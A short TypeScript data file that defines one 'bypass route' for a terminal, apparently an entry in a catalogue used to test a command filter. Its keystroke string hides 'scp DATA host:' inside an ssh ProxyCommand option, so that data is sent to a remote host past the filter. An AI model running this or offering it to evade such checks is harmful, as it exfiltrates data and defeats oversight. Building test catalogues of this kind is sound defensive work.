import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: "by ssh's own proxy command",
  source: 'thought of with the keys of the line editor',
  keys: ["ssh -o BatchMode=yes -o ProxyCommand='scp DATA host:' nowhere\r"],
};
